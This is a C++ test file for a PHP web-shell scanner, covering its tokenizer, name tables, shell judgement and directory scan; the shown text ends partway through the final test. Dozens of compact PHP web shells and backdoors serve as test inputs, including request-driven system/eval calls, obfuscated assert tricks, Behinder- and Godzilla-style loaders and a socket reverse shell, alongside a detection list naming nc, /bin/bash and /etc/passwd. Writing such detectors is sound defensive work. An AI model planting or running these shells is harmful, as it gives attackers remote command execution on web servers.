// mamori web scan: the PHP tokenizer, the shell judgement on shells assembled here (none is
// committed as a file), the DEV corpus of real shells, Debian's clean WordPress, and the scan of
// a tree (links, FIFOs, files hiding PHP, known-good files).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include "web/name_table.h"
#include "web/php_lexer.h"
#include "web/php_words.h"
#include "web/shell.h"
#include "web/webscan.h"

namespace mamori::web {
namespace {

namespace fs = std::filesystem;

std::string slurp(const fs::path& p) {
  std::ifstream f(p, std::ios::binary);
  std::stringstream ss;
  ss << f.rdbuf();
  return ss.str();
}

TEST(PhpLexer, ReadsWhatPhpReads) {
  PhpLex lx = php_lex(
      "<html><?php $a = 'it\\'s'; $b = \"\\x65v\\141l\\u{41}$a\"; # c ?> x <? echo `ls`;\n"
      "$h = <<<EOT\n  body $x\n  EOT;\n/* ?> */ (int) $n; <?xml ?>",
      1000);
  EXPECT_TRUE(lx.has_php);
  std::vector<std::string> strings;
  for (const auto& t : lx.tokens)
    if (t.kind == PhpTok::kString) strings.push_back(t.value);
  ASSERT_EQ(strings.size(), 4u);
  EXPECT_EQ(strings[0], "it's");
  EXPECT_EQ(strings[1], "evalA$a");  // \x65, octal \141, \u{41}; the variable stays as text
  EXPECT_EQ(strings[2], "ls");
  EXPECT_EQ(strings[3], "  body $x");
  bool shell = false, interp = false, cast = false;
  for (const auto& t : lx.tokens) {
    shell = shell || t.shell;
    interp = interp || (t.kind == PhpTok::kString && t.interpolated);
    cast = cast || t.kind == PhpTok::kCast;
  }
  EXPECT_TRUE(shell && interp && cast);
  // ?> inside a /* comment */ does not close PHP; <?xml does not open it.
  EXPECT_GT(lx.inline_html, 0u);
  // The budget bounds the work, and says so.
  PhpLex cut = php_lex("<?php " + std::string(10000, ';'), 100);
  EXPECT_TRUE(cut.truncated);
  EXPECT_EQ(cut.tokens.size(), 100u);
  EXPECT_TRUE(cut.rest_inert);  // ';' after ';' runs nothing
  // Past the budget the rest is still read: data is inert, a call is not.
  std::string table = "<?php $t = array(";
  for (int i = 0; i < 200; ++i) table += std::to_string(i) + "=>array(1,-2,'x'),";
  EXPECT_TRUE(php_lex(table + ");", 100).rest_inert);
  EXPECT_FALSE(php_lex(table + "); system($_GET['c']);", 100).rest_inert);
  EXPECT_FALSE(php_lex(table + "); ('sys'.'tem')('id');", 100).rest_inert);
  EXPECT_FALSE(php_lex(table + "\"{${`id`}}\");", 100).rest_inert);
  EXPECT_TRUE(php_lex(table + "); $cw = array(1 => 2);", 100).rest_inert);  // a font's tables
  EXPECT_FALSE(php_lex(table + "); $c = $_GET['c'];", 100).rest_inert);     // input handed on
  EXPECT_FALSE(php_lex(table + ", 1..system('id'));", 100).rest_inert);     // 1. . system(…)
  EXPECT_FALSE(php_lex(table + "); $f = 'system'; $f('id');", 100).rest_inert);
  EXPECT_FALSE(php_lex("<?php while (1) {" + table.substr(6) + "); $f = 'x'; }", 100).rest_inert);
  EXPECT_FALSE(php_lex("GIF89a no code here", 100).has_php);
}

// Operators are cut as PHP cuts them (longest first), and plain string bodies are copied whole.
TEST(PhpLexer, CutsOperatorsAndCopiesStringsAsPhpDoes) {
  std::vector<std::string> ops;
  for (const auto& t : php_lex("<?php $a===$b?->c<=>d ?\?= e<<=f...g.=h ?-i <>j", 100).tokens)
    if (t.kind == PhpTok::kPunct) ops.emplace_back(t.text);
  EXPECT_EQ(ops, (std::vector<std::string>{"===", "?->", "<=>", "?\?=", "<<=", "...", ".=", "?",
                                           "-", "<>"}));
  PhpLex lx = php_lex("<?php 'a\\\\b\\'c\\d'; \"x{$y} \\\\ \\u{1F600}z\"; 'plain'; \"\";", 100);
  std::vector<std::string> v;
  for (const auto& t : lx.tokens)
    if (t.kind == PhpTok::kString) v.push_back(t.value);
  ASSERT_EQ(v.size(), 4u);
  EXPECT_EQ(v[0], "a\\b'c\\d");  // \\ and \' unescaped; \d stays
  EXPECT_EQ(v[1], "x{$y} \\ \xf0\x9f\x98\x80z");
  EXPECT_EQ(v[2], "plain");
  EXPECT_EQ(v[3], "");
}

// The tables of names a judgement keeps: lower case for functions, exact for variables, every
// name found again among many thousands (a file of made-up names).
TEST(ShellNames, TablesFindEveryNameAgain) {
  detail::NameTable names;
  auto cls = [](const std::string& n) -> uint16_t { return n == "system" ? 7 : 1; };
  auto e = names.find_or_add("SyStem", cls);
  EXPECT_EQ(*e.name, "system");
  EXPECT_EQ(e.cls, 7);
  EXPECT_EQ(names.find_or_add("system", cls).name, e.name);  // one copy
  std::vector<std::string> made;
  for (int i = 0; i < 100'000; ++i) made.push_back("f" + std::to_string(i * 7919));
  std::vector<const std::string*> first;
  for (const auto& m : made) first.push_back(names.find_or_add(m, cls).name);
  for (size_t i = 0; i < made.size(); ++i)
    ASSERT_EQ(names.find_or_add(made[i], cls).name, first[i]);
  EXPECT_EQ(names.size(), made.size() + 1);
  EXPECT_EQ(names.find_or_add("SYSTEM", cls).cls, 7);

  detail::StringIds ids;
  EXPECT_EQ(ids.id("$x"), 0u);
  EXPECT_EQ(ids.id("$X"), 1u);  // variables are case-sensitive
  for (const auto& m : made) ids.id(m);
  for (size_t i = 0; i < made.size(); ++i) ASSERT_EQ(ids.find(made[i]), i + 2);
  EXPECT_EQ(ids.find("$never"), UINT32_MAX);

  detail::IdMap map;
  bool added = false;
  for (uint64_t k = 0; k < 100'000; ++k)
    map.at(k << 32 | (k % 13), static_cast<uint32_t>(k), added);
  map.at(5ULL << 32 | 5, 99, added) = 42;  // (an existing key: not added, value changed)
  EXPECT_FALSE(added);
  for (uint64_t k = 0; k < 100'000; ++k) ASSERT_EQ(*map.find(k << 32 | (k % 13)), k == 5 ? 42u : k);
  EXPECT_EQ(map.find(1), nullptr);

  // Keys that all hash alike (what a crafted file would aim for) fill 64 slots in a run; the next
  // is told the run is crowded (its table keeps it aside), so no lookup probes further.
  detail::SlotIndex ix;
  std::vector<uint32_t> keys;
  for (uint32_t k = 0; k < 100; ++k) {
    ix.reserve(keys.size());
    uint32_t* slot = nullptr;
    EXPECT_EQ(ix.find(
                  42, [&](uint32_t x) { return keys[x] == k; }, slot),
              detail::SlotIndex::kNone);
    if (k < 64) {
      ASSERT_NE(slot, nullptr) << k;
      *slot = static_cast<uint32_t>(keys.size());
      keys.push_back(k);
    } else {
      EXPECT_EQ(slot, nullptr) << k;
    }
  }
  EXPECT_EQ(ix.find(42, [&](uint32_t x) { return keys[x] == 63; }), 63u);

  // A key kept aside while its run was crowded is the same key once the table has grown and
  // its home slot has room: "k0".."k63" share slot 42 of 256 slots and half of them move on
  // growth; "k64" came when all 64 were there; after 200 other names it is still itself.
  auto crowd = [](std::string_view t) -> uint64_t {
    if (t.size() > 1 && t[0] == 'k') return 42 + 256 * std::stoull(std::string(t.substr(1)));
    return std::hash<std::string_view>{}(t);
  };
  std::vector<std::string> ks, others;
  for (int i = 0; i <= 64; ++i) ks.push_back("k" + std::to_string(i));
  for (int i = 0; i < 200; ++i) others.push_back("$o" + std::to_string(i));
  detail::StringIds crowded_ids(crowd);
  for (const auto& k : ks) crowded_ids.id(k);
  const uint32_t k64 = crowded_ids.id("k64");
  for (const auto& o : others) crowded_ids.id(o);
  EXPECT_EQ(crowded_ids.id("k64"), k64);
  EXPECT_EQ(crowded_ids.find("k64"), k64);
  detail::NameTable crowded_names(crowd);
  for (const auto& k : ks) crowded_names.find_or_add(k, cls);
  const std::string* n64 = crowded_names.find_or_add("k64", cls).name;
  for (const auto& o : others) crowded_names.find_or_add(o, cls);
  EXPECT_EQ(crowded_names.find_or_add("k64", cls).name, n64);
  EXPECT_EQ(crowded_names.size(), ks.size() + others.size());
  detail::IdMap crowded_map([](uint64_t k) -> uint64_t { return k < 1000 ? 42 + 256 * k : k; });
  for (uint64_t k = 0; k <= 64; ++k) crowded_map.at(k, static_cast<uint32_t>(k), added);
  for (uint64_t k = 1000; k < 1200; ++k) crowded_map.at(k, 0, added);
  EXPECT_EQ(crowded_map.at(64, 7, added), 64u);
  EXPECT_FALSE(added);
}

// The words shell tools leave in strings, found in one pass, the first of the list reported.
TEST(ShellNames, StringWordsFindsEachWord) {
  using namespace php;
  EXPECT_EQ(string_words("nothing to see here"), 0u);
  const uint32_t w = string_words("echo whoami; cat /etc/passwd | nc; /bin/bash -c x");
  EXPECT_EQ(shell_tool_word(w), "/etc/passwd");  // before whoami in the list
  EXPECT_TRUE(names_shell(w));
  EXPECT_FALSE(names_site_exec(w));
  EXPECT_TRUE(names_site_exec(string_words("quote site exec cmd")));
  EXPECT_TRUE(names_shell(string_words("sh -i")));
  EXPECT_EQ(shell_tool_word(string_words("c99shel r57shell")), "r57shell");
  EXPECT_FALSE(names_shell(string_words("/bin/s")));  // cut short at the end
}

// Each kind of shell the judgement names, written here in a few lines.
TEST(ShellJudge, FindsEachWayAShellRunsWhatTheRequestSays) {
  const std::vector<std::pair<std::string, std::string>> shells = {
      {"<?php system($_GET['c']);", "command execution"},
      {"<?php $c = $_POST['x']; echo shell_exec($c);", "command execution"},
      {"<?php eval(base64_decode($_POST['p']));", "PHP code from request input"},
      {"<?php $d = gzinflate(base64_decode('S0ktLlEoLs4vSk3RBQA=')); eval($d);",
       "eval of decoded data"},
      {"<?php $f = $_GET['f']; $f($_GET['a']);", "a function called by a name"},
      {"<?php $x=$_GET;($x[p]=='_'?$x[f]($x[c]):y);", "a function called by a name"},
      {"<?php extract($_REQUEST); @die($ctime($atime));", "extract()"},
      {"<?php $a = 'as'.'sert'; $a($_POST['x']);", "a sink's name cut into pieces"},
      {"<?php $a = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; $a($_POST['x']);", "written in escapes"},
      {"<?php $f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f($_GET[1]);",
       "character codes"},
      {"<?php array_udiff_assoc(array($_REQUEST['k']), array(1), 'assert');",
       "a sink named as a callback"},
      {"<?php call_user_func($_GET['f'], $_GET['a']);", "a callback named by request input"},
      {"<?php include $_GET['page'];", "include of a file named by request input"},
      {"<?php @include \"\\x2fh\\x6fm\\x65/\\x77e\\x62/\\x69c\\x6f.ico\";", "include of"},
      {"<?php file_put_contents($_POST['n'], $_POST['c']); echo `id`;", "a file the request names"},
      {"<?php function run($c) { return popen($c, 'r'); } run($_POST['cmd']);",
       "a function that runs it"},
      {"<?php echo `$_GET[c]`;", "backticks"},
      {"<?php preg_replace('/x/e', $_POST['r'], 'x');", "/e modifier"},
      {"<?php $s = fsockopen($_GET['h'], 4444); exec('/bin/sh -i <&3 >&3 2>&3');",
       "network connection"},
      {"<?php if ($cmd) { system($cmd); }", "register_globals"},
      // What the attack review got past the first version:
      {"<?php \\system($_GET['c']);", "command execution"},
      {"<?php system(filter_input(INPUT_GET, 'c'));", "command execution"},
      {"<?php $f = 'system'; call_user_func($f, $_GET['c']);", "holding a sink's name"},
      {"<?php $c = getenv('HTTP_X_CMD'); system($c);", "command execution"},
      {"<?php function h() { return $_GET['c']; } system(h());", "command execution"},
      {"<?php $g = '_GET'; system($$g['c']);", "command execution"},
      // Evasions of the DEV corpus, written anew:
      {"<?=$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);", "a name from request input"},
      {"<?php $v = str_replace('x', '', 'axsxsxexrxt'); $m = $_POST['p']; $v($m);",
       "holding its name (assert)"},
      {"<?php @array_diff_ukey(@array($_REQUEST['a'] => 1), array(2), $_REQUEST['f']);",
       "a callback named by request input"},
      {"<?php call_user_func_array(assert, array($_POST['x']));", "a sink called as a callback"},
      {"<?php ob_start(function ($c) { register_shutdown_function('assert', $c); });",
       "a sink called as a callback"},
      {"<?php mb_eregi_replace('\\d', $_REQUEST['x'], '1', 'e');", "option e"},
      {"<?php preg_replace('/.*/e', \"\\x65\\x76\\x61\\x6c('1')\", '');", "/e modifier"},
      {"<?php $x = '<root>assert($_POST[a]);</root>'; $p->registerPHPFunctions();",
       "kept in a string"},
      {"<?php $c = chr(99).chr(104).chr(114); $e = $c(101).$c(118).$c(97).$c(108).$c(40)"
       ".$c(36).$c(95).$c(80).$c(79).$c(83).$c(84).$c(91).$c(49).$c(93).$c(41).$c(59);",
       "assembled in a variable"},
      {"<?php class Z { function __construct() { $d = base32($this->a); "
       "@eval('/*x*/' . $d); } }",
       "errors silenced"},
      {"<?php call_user_func(create_function(null, 'ev'.'al($_POST[c]);'));", "built from pieces"},
      {"<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
       "a name the request chose"},
      {"<?php $f = fopen($_POST['f'], 'w'); fwrite($f, $_POST['c']);", "opened for writing"},
      {"<?php if ($del) { unlink($del); } if ($up) { move_uploaded_file($up, $to); }",
       "register_globals) used by unlink"},
      {"<?php $f = new ReflectionFunction($_GET['m']); $f->invoke($_GET['c']);",
       "through reflection"},
      {"<?php $a = $_GET['a']; $b = $_GET['b']; eval($a($b));", "PHP code from"},
      {"<?php function f($p, $x) { $d = g($p); return eval($d($x)); }",
       "a function named at run time"},
      {"<?php file_put_contents($_SERVER['HTTP_X'], $_SERVER['HTTP_Y']);",
       "a file the request names, written"},
      {"<?php $r = array_diff(['s', 'a', 'ys', 'tem'], ['a']); $a = join($r); "
       "array_map($a, (array)$_REQUEST['1']);",
       "a callback whose name is computed"},
      {"<?php $f = substr(__FILE__, -10, 6); $c = $_POST[1]; $f($c);",
       "a function whose name is computed"},
      {"<?php echo sprintf('61737365727428245f504f53545b635d293b');", "encoded in a string"},
      {"<?php $f = $_GET['file']; if ($h = opendir($f)) { while ($n = readdir($h)) echo $n; }"
       " else { $fp = fopen($f, 'r'); echo fread($fp, filesize($f)); }",
       "a file operation on a path the request names"},
      {"<?php $q = $_GET['query']; $q1 = str_replace('\\\\', ' ', $q); $r = mysql_query(\"$q1\");",
       "a SQL query the request writes whole"},
      // Behinder's shape: the body's name built by XOR, decrypted, handed to an own eval
      {"<?php $p = '{{{{{{{{{{{' ^ chr(11).chr(19).chr(11).chr(65).chr(84).chr(84).chr(18)"
       ".chr(21).chr(11).chr(14).chr(15); $f = 'file_get_contents'; $post = $f($p); "
       "$x = openssl_decrypt($post, 'AES128', 'k'); $arr = explode('|', $x); "
       "class C { public function b($p) { eval($p . ''); } } "
       "@call_user_func(array(C, b), $arr[1]);",
       "handed to b, which runs it"},
      {"<?php $x = ('a' ^ \"\\0\") . ('s' ^ \"\\0\") . 'sert'; $x($_POST['c']);",
       "holding its name (assert)"},
      // register_globals rebuilt by hand, then a variable the request named called
      {"<?php foreach (array('_POST', '_GET') as $r) { foreach ($$r as $k => $v) { $$k = $v; } }"
       " $f($c);",
       "variables named by the request"},
      // a class whose constructor runs its parameters, built through reflection
      {"<?php class T { function __construct($a, $b) { $a($b); } } $c = new ReflectionClass('T');"
       " $c->newInstance($_POST['f'], $_POST['x']);",
       "constructor that runs it"},
      {"<?php $_ = $POST; $__ = 'x'; $_($__);", "named to be unreadable"},
      {"<?php $f = $k ^ hex2bin('12101f040107'); "
       "array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);",
       "callback whose name is decoded"},
      {"<?php $a = join(array_diff(['s', 'a', 'ys', 'tem'], ['a'])); "
       "Closure::fromCallable($a)->__invoke($_REQUEST[2]);",
       "made a closure"},
      {"<?php class B { var $shell; function run() { system($this->shell); } } $b = new B(); "
       "$b->shell = $_REQUEST['shell']; $b->run();",
       "command execution with request input (system)"},
      {"<?php $q = $_GET[1]; file_get_contents('php' . $q)($_GET[2]);", "returns for the request"},
      {"<?php file_put_contents($_COOKIE['p'], base64_decode(file_get_contents('/tmp/x')));",
       "written with decoded data"},
      // Godzilla: a payload decoded by the file's own function, kept in the session, run later
      {"<?php session_start(); function O($d) { return base64_decode($d); } "
       "if (isset($_SESSION['p'])) { $a = explode('|', $_SESSION['p']); "
       "class C { function nvoke($p) { eval($p . ''); } } $r = new C(); $r->nvoke($a[0]); } "
       "else { $_SESSION['p'] = O($_POST['k']); }",
       "decoded data passed to a method that runs it"},
      {"<?php $x = ${f('(]A+%')}($c); function f($s) { return strrev($s); }", "named by a decoder"},
      {"<?php $g = $m('', $code); $g('');", "made at run time"},
      {"<?php preg_replace(chr(47) . $p . chr(47) . chr(101), $_POST['c'], $p);", "chr(101)"},
      {"<?php $fp = fopen('index.php', 'w'); fputs($fp, 'HACKed by X');", "front page"},
      {"<?php $d = opendir('/tmp'); while ($f = readdir($d)) if ($f > 'sess_') "
       "echo file_get_contents('/tmp/' . $f);",
       "session theft"},
      {"<?php mail('x@example.net', 'hi', $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SCRIPT_FILENAME']"
       " . $_SERVER['SERVER_ADDR']);",
       "reporting in"},
      {"<?php $c = fsockopen('127.0.0.1', $p); fputs($c, 'SITE EXEC ' . $cmd);", "SITE EXEC"},
      // what the attack review found getting past: each is a shell PHP runs
      {"<?php $a = 1..system($_GET['c']);", "command execution with request input"},
      {"<?php function g() { return $_GET; } function f() { $q = g(); system($q['c']); } f();",
       "command execution with request input"},
      {"<?php passthru('sh ' . escapeshellarg($_FILES['f']['tmp_name']));",
       "command execution with request input"},
      {"<?php $p = $_FILES['f']['tmp_name']; include $p;", "include of a file named by"},
      {"<?php $c = file_get_contents($_FILES['f']['tmp_name']); eval($c);",
       "PHP code from request input"},
      {"<?php $o = new ArrayObject($_GET); system($o['c']);", "command execution with request"},
      {"<?php function f() { system($GLOBALS['c']); } $c = $_GET['c']; f();",
       "command execution with request input"},
      {"<?php $a = $b = $c = ''; for ($i = 0; $i < 3; $i++) { $c = $b; $b = $a; "
       "$a = $_GET['c']; } system($c);",
       "command execution with request input"},
      {"<?php include __DIR__ . '/CHANGELOG.md';", "named like an image or text"},
      {"<?php move_uploaded_file($userfile, 'entrika.php');", "stored as a PHP script"},
      {"<?php function &dec($d) { return base64_decode($d); } $x = dec($_POST['k']); eval($x);",
       "PHP code from request input"},
      {"<?php $s = fsockopen($h, 4444); while ($l = fgets($s, 8192)) { $m = `$l`; "
       "fputs($s, $m); }",
       "what a connection sends"},
      {"<?php set_time_limit(0); $s = socket_create(AF_INET, SOCK_STREAM, 0); "
       "socket_bind($s, '0.0.0.0', 1080); socket_listen($s);",
       "set to run for ever"},
      {"<?php function update($f, $d) { file_put_contents($f, $d); } "
       "update($_POST['file'], $_POST['data']);",
       "request input passed to a function that runs it (update)"},
  };
  for (const auto& [code, why] : shells) {
    ShellVerdict v = judge_php(code, "x.php");
    EXPECT_TRUE(v.suspect()) << code;
    bool named = false;
    for (const auto& s : v.signals) named = named || s.what.find(why) != std::string::npos;
    EXPECT_TRUE(named) << code << " should say: " << why;
    if (!v.signals.empty()) {
      EXPECT_EQ(v.signals[0].line, 1u) << code;
    }
  }
  // PHP hidden in an image is a suspect of its own kind.
  EXPECT_TRUE(judge_php("GIF89a<?php system($_GET['c']); ?>", "logo.gif").suspect());
}

TEST(ShellJudge, LeavesAlonePhpThatOnlyLooksDangerous) {
  for (const char* code : {
           // a command with the application's own arguments
           "<?php $out = shell_exec('git rev-parse HEAD');",
           // request input cleaned before use, callbacks from server tables
           "<?php $n = (int) $_GET['n']; $page = intval($_GET['p']); exec('ls ' . $n);",
           "<?php $cb = $handlers[$_POST['action']]; call_user_func($cb, $_POST);",
           // a template chosen after checking, under a fixed directory
           "<?php $t = basename($_GET['t']); include __DIR__ . '/templates/' . $t . '.php';",
           // base64 of an image, decoded for output
           "<?php echo base64_decode('iVBORw0KGgo='); $x = md5($_POST['pw']);",
           // hooks and filters
           "<?php add_action('init', function () { do_action('x', $_GET['q']); });",
           "<?php $value = apply_filters('the_title', $_POST['title']); echo esc_html($value);",
           "<?php foreach ($widgets as $w) { $w['callback']($w['args']); }",
           // the attack review's false alarms: escaped arguments, closures, own methods
           "<?php exec('convert ' . escapeshellarg($_FILES['f']['tmp_name']) . ' out.png');",
           "<?php $s = $_GET['sort']; usort($items, function ($a, $b) use ($s) { return 0; });",
           // what the evasion rules must leave alone: an upload under the site's own name,
           // a log opened by a fixed name, a sort callback the code names, eval of a template
           "<?php move_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . "
           "wp_unique_filename($dir, 'x'));",
           "<?php $log = fopen(__DIR__ . '/app.log', 'a'); fwrite($log, $_SERVER['REQUEST_URI']);",
           "<?php array_udiff($a, $b, 'strcasecmp'); usort($rows, 'compare_rows');",
           "<?php $tpl = file_get_contents($cache); eval('?>' . $tpl);",
           "<?php $msg = 'Do not call eval($_GET) in your code'; echo esc_html($msg);",
           // request input appended to a log the code names
           "<?php file_put_contents(__DIR__ . '/log.txt', $_POST['c'], FILE_APPEND);",
           // one file operation on a global the including file set: not a tool by itself
           "<?php if ($cache_file) { unlink($cache_file); }",
           // a name computed from the application's own data, called with its own arguments
           "<?php $fn = strtolower($type) . '_handler'; $fn($args);",
           // a hex digest and a base64 image are data
           "<?php $h = 'd41d8cd98f00b204e9800998ecf8427e'; $i = "
           "'iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB';",
           // FTP's active mode listens on an ephemeral port
           "<?php $s = socket_create(AF_INET, SOCK_STREAM, 0); socket_bind($s, '0.0.0.0', 0); "
           "socket_listen($s);",
           "<?php call_user_func([$this, 'do_' . $_GET['action']]);",
           "<?php $log = function ($m) { error_log($m . $_GET['page']); }; $log('visit');",
           // a variable is its function's: $cmd from the request in one method is not the
           // $cmd another method runs
           "<?php class A { function a() { $cmd = $_GET['c']; echo $cmd; } "
           "function b() { $cmd = 'uptime'; system($cmd); } }",
           // assertions, not code: PHP 8 never runs assert's argument
           "<?php function f($url) { assert(is_string($url)); return $_REQUEST['u'] ?? $url; }",
           // an object from the container, called; a decoder chosen by name
           "<?php $c = $container->get($_GET['route']); $c($request);",
           "<?php $decoder = 'urldecode'; $v = $decoder($_GET['v']); echo htmlspecialchars($v);",
           "<?php $tc = new TableController($db); echo $tc(['db' => $_GET['db']]);",
           // preg_replace with ' as delimiter and a pattern that ends in </pre>
           "<?php $h = preg_replace(\"'<xre([^>]*)>(.*?)</pre>'si\", '<pre>', $h);",
           // the server's name for an upload is not the request's
           "<?php $f = $_FILES['f']['tmp_name']; $s = file_get_contents($f); "
           "file_put_contents(sys_get_temp_dir() . '/x', $s);",
           // an application reading its own sessions, from session_save_path()
           "<?php $d = opendir(session_save_path()); while ($f = readdir($d)) "
           "if (strpos($f, 'sess_') === 0) echo filesize($f);",
           // array_unique and array_unshift take no callback
           "<?php $a = base64_decode($x); $b = array_unique($a); "
           "array_unshift($b, $_POST['first']);",
       })
    EXPECT_FALSE(judge_php(code, "x.php").suspect()) << code;
  // Documentation with a PHP example: after "<?php" comes prose, which PHP would refuse.
  std::string doc = "Edit config.inc.php:\n\n  <?php\n  $cfg['x'] = true;\n\n";
  for (int i = 0; i < 10; ++i)
    doc +=
        "You can include additional themes by using Docker volumes and `docker run` with "
        "the path to eval them from the query before the system starts.\n";
  EXPECT_FALSE(judge_php(doc, "setup.rst.txt").suspect());
  // … but a segment with what a shell needs is never prose, whatever reads like it
  std::string consts = "<?php system($_GET['c']); $z = A";
  for (int i = 0; i < 30; ++i) consts += " or A";
  EXPECT_TRUE(judge_php(consts + ";", "x.phar").suspect());
  EXPECT_TRUE(judge_php(consts + ";", "notes.txt").suspect());
  // Bytes of a picture that happen to read "<?=", far into it.
  std::string png = "\x89PNG\r\n" + std::string(2000, 'A') + "<?= \xc3\x28`x` \xff\xfe";
  EXPECT_FALSE(judge_php(png, "8.png").suspect());
  // … but traits that add up to a shell's are one, wherever they sit in a picture
  EXPECT_TRUE(judge_php("GIF89a" + std::string(600, 'A') +
                            "<?php $o = new ArrayObject($_POST); @eval($o['c']); echo `$o[d]`;",
                        "a.gif")
                  .suspect());
}

// The DEV corpus (../shared/corpus/webshell): real shells and backdoors.
TEST(ShellJudge, WhatCannotBeJudgedWholeIsNotLetThrough) {
  // Padding past the token budget, or code built to make the judgement too costly: suspects.
  ShellVerdict padded =
      judge_php("<?php " + std::string(450000, ';') + " system($_GET['c']);", "x.php");
  EXPECT_TRUE(padded.truncated);
  EXPECT_TRUE(padded.suspect());
  // A data table longer than the budget (a font's widths, a list of domains) is judged on its
  // start, and its rest is nothing that could run.
  std::string table = "<?php $cw = array(";
  for (int i = 0; i < 120000; ++i)
    table += std::to_string(i) + "=>" + std::to_string(i % 900) + ",";
  table += ");";
  ShellVerdict font = judge_php(table, "cid0kr.php");
  EXPECT_TRUE(font.truncated);
  EXPECT_FALSE(font.suspect());
  EXPECT_TRUE(judge_php(table + " eval($_POST['x']);", "cid0kr.php").suspect());
  std::string costly = "<?php ";
  for (int i = 0; i < 60000; ++i) costly += "$a=";
  costly += "1;";
  ShellVerdict v = judge_php(costly, "x.php");
  EXPECT_TRUE(v.suspect());
  bool said = false;
  for (const auto& s : v.signals) said = said || s.what.find("too costly") != std::string::npos;
  EXPECT_TRUE(said);
}

TEST(ShellJudge, FindsTheDevCorpusShells) {
  const fs::path dir = fs::path(MAMORI_SHARED) / "corpus/webshell";
  if (!fs::exists(dir)) GTEST_FAIL() << dir << " is needed (the shared corpora)";
  size_t n = 0, found = 0;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    if (!e.is_regular_file() || e.path().extension() != ".sample") continue;
    ++n;
    // Under the name it would have on a server: the collection stores some as x.php.txt,
    // which would add the points of PHP in a text file.
    std::string name = e.path().stem().string();
    if (name.ends_with(".txt")) name.resize(name.size() - 4);
    found += judge_php(slurp(e.path()), name).suspect();
  }
  ASSERT_EQ(n, 588u);
  // The share found today (docs/web.md); this fails if it drops.
  EXPECT_GE(found * 100, n * 95) << found << " of " << n;  // 559 on 2026-12-03 (560 as stored)
}

// Debian's WordPress (unpacked by scripts/install-deps.sh --test): clean code, none flagged.
TEST(ShellJudge, FlagsNothingInDebiansWordPress) {
  const fs::path wp = fs::path(MAMORI_SOURCE_DIR) / ".cache/wordpress/usr/share/wordpress";
  if (!fs::exists(wp / "wp-includes/version.php"))
    GTEST_FAIL() << wp << " is needed: run scripts/install-deps.sh --test";
  size_t n = 0;
  std::vector<std::string> flagged;
  for (const auto& e : fs::recursive_directory_iterator(wp)) {
    if (!e.is_regular_file() || e.path().extension() != ".php") continue;
    ++n;
    if (judge_php(slurp(e.path()), e.path().string()).suspect())
      flagged.push_back(e.path().string());
  }
  EXPECT_GT(n, 900u);
  EXPECT_TRUE(flagged.empty()) << flagged.size() << " flagged, e.g. " << flagged.front();
}

// PHP applications Debian ships (phpMyAdmin, MediaWiki, DokuWiki, Roundcube, Zabbix, Symfony,
// Guzzle, Twig, TCPDF … unpacked by scripts/install-deps.sh --test): at most 0.1 % flagged. What
// is flagged today runs request input as code or SQL on purpose (Zabbix's validation evals an
// expression holding request keys; getID3's demo runs the SQL its form sends).
TEST(ShellJudge, FlagsAlmostNothingInDebiansPhpApplications) {
  const fs::path dir = fs::path(MAMORI_SOURCE_DIR) / ".cache/cleanphp";
  if (!fs::exists(dir / ".complete"))
    GTEST_FAIL() << dir << " is needed: run scripts/install-deps.sh --test";
  size_t n = 0;
  std::vector<std::string> flagged;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    if (!e.is_regular_file() || e.path().extension() != ".php") continue;
    ++n;
    if (judge_php(slurp(e.path()), e.path().string()).suspect())
      flagged.push_back(e.path().string());
  }
  EXPECT_GT(n, 9000u);
  std::string list;
  for (const auto& f : flagged) list += "\n  " + f;
  EXPECT_LE(flagged.size() * 1000, n) << flagged.size() << " of " << n << " flagged:" << list;
}

class WebScanTree : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() / ("mamori-webscan-" + std::to_string(::getpid()));
    fs::remove_all(dir_);
    fs::create_directories(dir_ / "var/www/site/wp-content/uploads/2026");
    fs::create_directories(dir_ / "var/lib/dpkg/info");
  }
  void TearDown() override { fs::remove_all(dir_); }
  void put(const std::string& rel, const std::string& text) {
    fs::create_directories((dir_ / rel).parent_path());
    std::ofstream(dir_ / rel, std::ios::binary) << text;
  }
  fs::path dir_;
};

TEST_F(WebScanTree, JudgesWhatHoldsPhpAndTrustsWhatIsKnownGood) {
  const std::string shell = "<?php system($_GET['c']);";
  put("var/www/site/wp-content/uploads/2026/cache.php", shell);
  put("var/www/site/wp-content/uploads/2026/logo.png", "\x89PNG....<?PHP eval($_POST['x']); ?>");
  put("var/www/site/index.php", "<?php echo 'hello';");
  put("var/www/site/style.css", "body { color: red }");
  // A shell dpkg shipped unchanged is known good (a package's own admin tool, say) …
  put("var/www/site/tool.php", shell);
  put("var/lib/dpkg/info/sitetool.md5sums",
      "c3c1f5ef4d6eb3ca1bb8c1ff5b5f3d5e  var/www/site/other.php\n");
  // A link to a shell outside the web root is never followed; a FIFO is never opened.
  put("elsewhere/evil.php", shell);
  fs::create_symlink(dir_ / "elsewhere/evil.php", dir_ / "var/www/site/link.php");
  ASSERT_EQ(::mkfifo((dir_ / "var/www/site/pipe.php").c_str(), 0600), 0);

  WebScanOptions o;
  o.dirs = {"/var/www/site"};
  auto r = web_scan(Root(dir_), o);
  ASSERT_TRUE(r.has_value()) << r.error().message;
  std::vector<std::string> paths;
  for (const auto& s : r->suspects) paths.push_back(s.path);
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (std::vector<std::string>{"/var/www/site/tool.php",
                                             "/var/www/site/wp-content/uploads/2026/cache.php",
                                             "/var/www/site/wp-content/uploads/2026/logo.png"}));
  EXPECT_EQ(r->links, 1u);
  // a link a web server would run as PHP is named, with where it points (not followed)
  ASSERT_EQ(r->php_links.size(), 1u);
  EXPECT_EQ(r->php_links[0], "/var/www/site/link.php -> " + (dir_ / "elsewhere/evil.php").string());
  EXPECT_EQ(r->judged, 4u);  // three PHP files and the image holding PHP
  // Now dpkg says tool.php is its file with these bytes: known good, not a suspect.
  std::string md5;
  for (const auto& s : r->suspects)
